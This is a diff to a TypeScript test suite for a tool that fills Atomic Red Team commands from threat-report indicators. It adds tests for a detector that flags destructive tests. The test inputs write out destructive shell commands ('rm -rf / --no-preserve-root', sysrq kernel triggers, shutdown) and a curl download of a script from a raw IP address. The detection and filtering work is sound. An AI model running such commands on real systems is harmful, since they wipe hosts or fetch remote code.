@@ -4,6 +4,7 @@ import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { fillArguments, substitute, type ReportValues } from '../../../src/generate/atomic/fill.js';
 import { AtomicLibrary } from '../../../src/generate/atomic/load.js';
+import { destructiveReason, missingPayloads } from '../../../src/generate/atomic/hazards.js';
 import { quoteContextAt, quoteForPlaceholder, quoteValue } from '../../../src/generate/atomic/quote.js';
 import { AtomicFileSchema, AtomicTestSchema, type AtomicTest } from '../../../src/generate/atomic/schema.js';
 import { runInSandbox, sandboxAvailable } from '../../../src/generate/sandbox/bwrap.js';
@@ -88,6 +89,63 @@ describe('report values in commands', () => {
     const file = filled.find((a) => a.name === 'output_file')!;
     assert.equal(file.from, 'default');
     assert.equal(substitute(t.executor.command!, filled, '/opt/art'), 'curl -o /tmp/a.sh "http://45.1.2.3/ins.sh"');
+  });
+
+  it('resolves PathToAtomicsFolder in defaults too, never in report values', () => {
+    const t = AtomicTestSchema.parse(
+      test({
+        input_arguments: {
+          payload: { description: 'p', type: 'path', default: 'PathToAtomicsFolder/T1027.002/bin/linux/test_upx' },
+          target_url: { description: 'u', type: 'url', default: 'https://example.org/' },
+        },
+        executor: { name: 'sh', command: "cp #{payload} /tmp/x && curl '#{target_url}'" },
+      }),
+    );
+    const values: ReportValues = { urls: [{ value: 'http://a.example/PathToAtomicsFolder', ref: 'ioc-1' }], domains: [], ips: [], files: [], registry: [], tasks: [], services: [], accounts: [], tools: [] };
+    const filled = fillArguments(t, values, 'unix');
+    assert.equal(substitute(t.executor.command!, filled, '/opt/art'), "cp /opt/art/T1027.002/bin/linux/test_upx /tmp/x && curl 'http://a.example/PathToAtomicsFolder'");
+  });
+
+  it('never fills a port, count or time with a report name or address', () => {
+    const t = AtomicTestSchema.parse(
+      test({
+        input_arguments: {
+          remote_host: { description: 'h', type: 'string', default: 'example.org' },
+          remote_port: { description: 'p', type: 'string', default: '43' },
+          timeout: { description: 't', type: 'integer', default: 1 },
+        },
+        executor: { name: 'sh', command: 'timeout #{timeout} whois -h #{remote_host} -p #{remote_port} x' },
+      }),
+    );
+    const values: ReportValues = { urls: [], domains: [{ value: 'evil.example', ref: 'ioc-1' }], ips: [], files: [], registry: [], tasks: [], services: [], accounts: [], tools: [] };
+    const filled = fillArguments(t, values, 'unix');
+    assert.equal(substitute(t.executor.command!, filled, '/opt/art'), 'timeout 1 whois -h evil.example -p 43 x');
+  });
+});
+
+describe('Atomic hazards', () => {
+  it('knows tests that destroy the host, and not those that only mention it', () => {
+    const sh = (command: string, description = 'd') => AtomicTestSchema.parse(test({ description, executor: { name: 'sh', command, elevation_required: true } }));
+    assert.match(destructiveReason(sh("[ \"$(uname)\" = 'Linux' ] && rm -rf / --no-preserve-root > /dev/null"))!, /root file system/);
+    assert.match(destructiveReason(sh('sudo shutdown -r now'))!, /shuts down/);
+    assert.match(destructiveReason(sh('echo b > /proc/sysrq-trigger'))!, /kernel/);
+    assert.match(destructiveReason(sh('id', 'This test is dangerous and destructive, do NOT use on production equipment.'))!, /description/);
+    assert.equal(destructiveReason(sh('rm -rf /tmp/art-folder')), undefined);
+    assert.equal(destructiveReason(sh("echo '# KEYWORD: shutdown' >> /etc/rc.d/x")), undefined);
+    assert.equal(destructiveReason(sh('$sheet.Cells.Item(23,1) = "=HALT()"')), undefined);
+    assert.equal(destructiveReason(sh('id', 'Display a simulated ransom note (non-destructive).')), undefined);
+  });
+
+  it('lists payload files that are not installed', () => {
+    const t = AtomicTestSchema.parse(test({ executor: { name: 'sh', command: 'python3 PathToAtomicsFolder/T1568.002/src/T1568.002.py; cat PathToAtomicsFolder/../ExternalPayloads/x.bin' } }));
+    assert.deepEqual(missingPayloads(t, '/nonexistent'), ['T1568.002/src/T1568.002.py', '../ExternalPayloads/x.bin']);
+    assert.deepEqual(missingPayloads(AtomicTestSchema.parse(test({ executor: { name: 'sh', command: 'id' } })), '/nonexistent'), []);
+  });
+
+  it('a plan passes over the test that wipes the file system', { skip: !hasSharedData }, () => {
+    const lib = new AtomicLibrary(join(sharedData, 'atomic-red-team', 'atomics'));
+    const wipe = lib.testsFor('T1070.004').find((r) => /rm -rf \/ --no-preserve-root/.test(r.test.executor.command ?? ''));
+    assert.ok(wipe && destructiveReason(wipe.test));
   });
 });
 
